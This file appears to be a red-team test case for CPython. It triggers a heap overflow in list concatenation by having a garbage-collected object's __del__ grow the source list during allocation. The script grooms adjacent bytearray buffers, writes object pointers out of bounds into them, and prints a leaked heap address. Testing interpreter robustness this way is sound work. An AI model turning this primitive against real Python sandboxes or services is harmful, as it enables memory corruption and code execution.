# technique: a + b sizes the new list's array, then allocates: a collection there runs a __del__ that grows a, and the copy loop writes past the array into neighbouring buffers: object pointers written out of bounds, a heap address read back (red-team pass 71)
# expect: any
N = 12
L = []
for _i in range(N): L.append(1000 + _i)  # capacity 16: a 128-byte array, not in the 112 class
M = [0]                                   # new array: (12 + 1) * 8 = 104 -> 112-byte block
bufs = [bytearray(111) for _ in range(400)]   # 112-byte buffers carved one after another
for i, b in enumerate(bufs):
    b[0:4] = i.to_bytes(4, 'little')
victim = bytearray(b'victim')
fired = []
class D:
    def __del__(self):
        if fired: return
        fired.append(1)
        L.extend([victim] * 24)           # L grows past what the new list's array will hold
        for j in range(100, 300, 3):
            bufs[j] = None                # holes: the next PyMem_New(112) takes one
def mk():
    a = D(); b = D(); a.o = b; b.o = a
hold = [[] for _ in range(200)]           # drain the list free list: PyList_New(0) links a GC object
mk()
out = []
for i in range(2000):
    out.append(L + M)                     # the collection runs in list_new_prealloc's PyList_New(0)
    if fired: break
r = out[-1]
print(i, len(L), len(r))
print(r[-3:])
hit = [j for j, b in enumerate(bufs) if b is not None and int.from_bytes(b[0:4], 'little') != j]
print("overflowed into:", hit)
for j in hit[:1]:
    print(hex(int.from_bytes(bufs[j][0:8], 'little')))
if hit:
    raise RuntimeError('heap overflow: list + list wrote past its array')
